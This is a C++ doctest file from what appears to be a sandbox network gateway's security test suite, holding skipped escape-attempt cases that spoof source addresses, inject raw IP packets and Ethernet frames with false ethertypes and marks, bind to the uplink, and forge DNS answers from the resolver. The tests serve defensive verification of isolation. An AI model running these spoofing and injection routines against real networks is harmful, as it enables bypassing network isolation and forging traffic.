// Attacks that only make sense where there is an uplink and a gateway beside the sandbox. They say what they could do;
// who judges is shared_escape_test.cpp.
#include <arpa/inet.h>
#include <doctest/doctest.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>

#include <cstdio>
#include <cstring>
#include <string>
#include <utility>

#include "gateway/base/endpoint.hpp"
#include "gateway/base/unique_fd.hpp"
#include "tests/support/outside_recorder.hpp"
#include "tests/support/packet_attacks.hpp"

using namespace sallyport;
using namespace sallyport::test;

namespace {

constexpr int kFreebind4 = 15, kFreebind6 = 78;

struct Address {
    Address(const std::string& text, std::uint16_t port)
        : size(Endpoint{IpAddress::parse(text).value(), port}.to_sockaddr(storage)) {}
    explicit Address(const sockaddr_in6& address) : size(sizeof address) { std::memcpy(&storage, &address, size); }
    const sockaddr* get() const { return reinterpret_cast<const sockaddr*>(&storage); }
    sockaddr_storage storage{};
    socklen_t size;
};

UniqueFd socket_from(int type, const Address& from) {
    const int family = from.get()->sa_family;
    UniqueFd fd(::socket(family, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    const int on = 1;
    ::setsockopt(fd.get(), SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    ::setsockopt(fd.get(), family == AF_INET ? SOL_IP : SOL_IPV6, family == AF_INET ? kFreebind4 : kFreebind6, &on,
                 sizeof on);
    if (::bind(fd.get(), from.get(), from.size) != 0) std::printf("cannot bind\n");
    return fd;
}

bool send(const UniqueFd& fd, const std::string& data, const Address& to) {
    return ::sendto(fd.get(), data.data(), data.size(), MSG_NOSIGNAL, to.get(), to.size) >= 0;
}

/// What send(2) says of what the kernel will have thrown away is of no interest.
void tell(int number, bool taken) { std::printf("%s %d\n", taken ? "sent" : "refused", number); }

std::uint16_t checksum(const std::string& bytes) {
    std::uint32_t sum = 0;
    for (std::size_t i = 0; i < bytes.size(); i += 2)
        sum += static_cast<std::uint8_t>(bytes[i]) * 256u +
               (i + 1 < bytes.size() ? static_cast<std::uint8_t>(bytes[i + 1]) : 0u);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons(static_cast<std::uint16_t>(~sum));
}

template <class T>
std::string bytes_of(const T& value) {
    return {reinterpret_cast<const char*>(&value), sizeof value};
}

std::string ip_packet(const std::string& from, const std::string& to, std::uint8_t protocol,
                      const std::string& payload) {
    ip header{};
    header.ip_v = 4;
    header.ip_hl = 5;
    header.ip_len = htons(static_cast<std::uint16_t>(sizeof header + payload.size()));
    header.ip_ttl = 64;
    header.ip_p = protocol;
    ::inet_pton(AF_INET, from.c_str(), &header.ip_src);
    ::inet_pton(AF_INET, to.c_str(), &header.ip_dst);
    header.ip_sum = checksum(bytes_of(header));
    return bytes_of(header) + payload;
}

std::string udp(std::uint16_t from, std::uint16_t to, const std::string& data) {
    const std::uint16_t header[4] = {htons(from), htons(to), htons(static_cast<std::uint16_t>(8 + data.size())), 0};
    return bytes_of(header) + data;
}

std::string syn(const std::string& from, std::uint16_t source, const std::string& to, std::uint16_t port) {
    tcphdr header{};
    header.th_sport = htons(source);
    header.th_dport = htons(port);
    header.th_seq = htonl(1);
    header.th_off = 5;
    header.th_flags = TH_SYN;
    header.th_win = htons(1000);
    in_addr ends[2];
    ::inet_pton(AF_INET, from.c_str(), &ends[0]);
    ::inet_pton(AF_INET, to.c_str(), &ends[1]);
    const std::uint16_t tail[2] = {htons(IPPROTO_TCP), htons(sizeof header)};
    header.th_sum = checksum(bytes_of(ends) + bytes_of(tail) + bytes_of(header));
    return bytes_of(header);
}

bool send_raw(const std::string& packet, const std::string& to) {
    const UniqueFd fd(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW));
    return fd && send(fd, packet, Address(to, 0));
}

/// `claimed`: what the socket says that the frame is; `ethertype`: what it is.
bool send_frame(const std::string& interface, std::uint16_t claimed, std::uint16_t ethertype,
                const std::string& payload, std::uint32_t mark = 0) {
    const UniqueFd fd(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = static_cast<int>(::if_nametoindex(interface.c_str()));
    to.sll_protocol = htons(claimed);
    if (mark) ::setsockopt(fd.get(), SOL_SOCKET, SO_MARK, &mark, sizeof mark);
    const std::string station(6, interface == "lo" ? '\0' : '\xff');
    const auto frame = station + std::string("\x02\x5a\x11\x70\x00\x01", 6) + bytes_of(htons(ethertype)) + payload;
    return fd && ::sendto(fd.get(), frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0;
}

}  // namespace

// Opens connections from addresses that are none of ours to our own ports; the answer would leave.
TEST_CASE("attack: forged clients" * doctest::skip()) {
    const auto client = socket_from(SOCK_STREAM, Address(target6(70, 443)));
    const Address published("2001:db8::1", 3000);
    tell(70, ::connect(client.get(), published.get(), published.size) == 0 || errno == EINPROGRESS);

    const auto outsider = socket_from(SOCK_DGRAM, Address(target6(71, 443)));
    const auto here = socket_from(SOCK_DGRAM, Address("2001:db8::1", 5555));
    tell(71, send(outsider, "hello", Address("2001:db8::1", 5555)));
    tell(71, send(here, "escape", Address(target6(71, 443))));

    tell(72, send_raw(
                 ip_packet("198.51.100.72", "203.0.113.1", IPPROTO_TCP, syn("198.51.100.72", 443, "203.0.113.1", 3000)),
                 "203.0.113.1"));
    const auto here4 = socket_from(SOCK_DGRAM, Address("203.0.113.1", 5556));
    tell(73, send_raw(ip_packet("198.51.100.73", "203.0.113.1", IPPROTO_UDP, udp(443, 5556, "hello!")), "203.0.113.1"));
    tell(73, send(here4, "escape", Address("198.51.100.73", 443)));
    tell(74, send_frame("lo", ETHERTYPE_IP, ETHERTYPE_IP,
                        ip_packet("198.51.100.74", "203.0.113.1", IPPROTO_TCP,
                                  syn("198.51.100.74", 443, "203.0.113.1", 3000))));
}

// To an address of ours, but by the uplink.
TEST_CASE("attack: bound to the uplink" * doctest::skip()) {
    for (const auto* address : {"127.0.0.1", "127.0.0.11", "203.0.113.1"}) {
        const UniqueFd fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
        if (::setsockopt(fd.get(), SOL_SOCKET, SO_BINDTODEVICE, "up0", 4) == 0)
            tell(75, send(fd, marker(75), Address(address, 9)));
    }
    for (const auto* address : {"::1", "2001:db8::1"}) {
        const UniqueFd fd(::socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
        if (::setsockopt(fd.get(), SOL_SOCKET, SO_BINDTODEVICE, "up0", 4) == 0)
            tell(79, send(fd, marker(79), Address(address, 9)));
    }
    const UniqueFd fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    const Address to("198.51.100.76", 443);
    if (::setsockopt(fd.get(), SOL_SOCKET, SO_BINDTODEVICE, "up0", 4) == 0)
        tell(76, ::connect(fd.get(), to.get(), to.size) == 0 || errno == EINPROGRESS);
}

// Frames in disguise.
TEST_CASE("attack: frames" * doctest::skip()) {
    const auto packet = [](const char* to) { return ip_packet("203.0.113.1", to, IPPROTO_UDP, udp(9, 9, "escape")); };
    tell(77, send_frame("up0", ETHERTYPE_ARP, ETHERTYPE_IP, packet("198.51.100.77")));
    for (const std::uint32_t mark : {1u, 0x6761u, 0x40000000u, 0x7fffffffu, 0xffffffffu})
        tell(78, send_frame("up0", ETHERTYPE_IP, ETHERTYPE_IP, packet("198.51.100.78"), mark));
}

// To a port at which Docker's resolver listens, by every kind of connection. To some kernels' own sockets no program is
// known (MPTCP's subflows, SMC's TCP socket).
TEST_CASE("attack: resolver" * doctest::skip()) {
    constexpr int kMptcp = 262, kSmc = 43;
    const Address to("127.0.0.11", 40054);
    for (const auto& [family, protocol] : {std::pair{AF_INET, 0}, std::pair{AF_INET, kMptcp}, std::pair{kSmc, 0}}) {
        const UniqueFd fd(::socket(family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, protocol));
        if (fd && ::connect(fd.get(), to.get(), to.size) != 0 && errno != EINPROGRESS) continue;
        pollfd ready{fd.get(), POLLOUT, 0};
        const bool open = fd && ::poll(&ready, 1, 1000) == 1 && !(ready.revents & (POLLERR | POLLHUP));
        if (open) std::printf("connected by %d %d\n", family, protocol);
    }
}

// Answers that the gateway seems to get: from its name server, and from Docker's resolver.
TEST_CASE("attack: answers" * doctest::skip()) {
    tell(80, send_frame("lo", ETHERTYPE_IP, ETHERTYPE_IP,
                        ip_packet("203.0.113.53", "203.0.113.1", IPPROTO_UDP, udp(53, 5053, "forged"))));
    tell(81, send_frame("lo", ETHERTYPE_IP, ETHERTYPE_IP,
                        ip_packet("127.0.0.11", "127.0.0.1", IPPROTO_UDP, udp(53, 5054, "forged"))));
    tell(82, send_raw(ip_packet("203.0.113.53", "203.0.113.1", IPPROTO_UDP, udp(53, 5053, "forged")), "203.0.113.1"));
    const auto played = socket_from(SOCK_DGRAM, Address("127.0.0.11", 53));
    tell(84, send(played, "forged", Address("127.0.0.1", 5054)));
    tell(83, send_raw(ip_packet("127.0.0.11", "127.0.0.1", IPPROTO_UDP, udp(53, 5054, "forged")), "127.0.0.1"));
}
